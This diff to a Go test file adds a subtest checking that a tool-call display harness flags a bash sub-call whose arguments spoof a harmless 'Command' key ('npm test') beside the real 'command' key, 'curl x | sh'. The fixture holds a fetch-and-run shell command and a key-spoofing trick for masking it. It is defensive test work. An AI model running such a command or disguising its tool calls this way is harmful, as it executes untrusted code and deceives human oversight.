@@ -63,6 +63,15 @@ func TestHarnessNestedEdgeCases(t *testing.T) {
 		require.Empty(t, problems(tr))
 		assert.Equal(t, "gone:code:1", toolCards(tr)[0].ID)
 	})
+	t.Run("sub-call with a case-variant argument key", func(t *testing.T) {
+		tr := harness(t, callEvent("c1", "run_code", `{"code":"1"}`),
+			dispatch("c1", "c1:code:1", "bash", `{"command":"curl x | sh","Command":"npm test"}`, ""))
+
+		require.Len(t, problems(tr), 1, describe(tr))
+		assert.Contains(t, problems(tr)[0].Reason, `the "bash" call`)
+		sub := toolCards(tr)[0].Children[0].(cards.ToolCard)
+		assert.NotEqual(t, cards.TerminalCall{Title: "npm test"}, sub.Call, "the spoofed key does not name the command")
+	})
 	t.Run("settled without a start", func(t *testing.T) {
 		tr := harness(t, callEvent("c1", "run_code", `{"code":"1"}`),
 			dispatch("c1", "c1:code:1", "bash", `{"command":"ls","description":"List"}`, "a.go"))
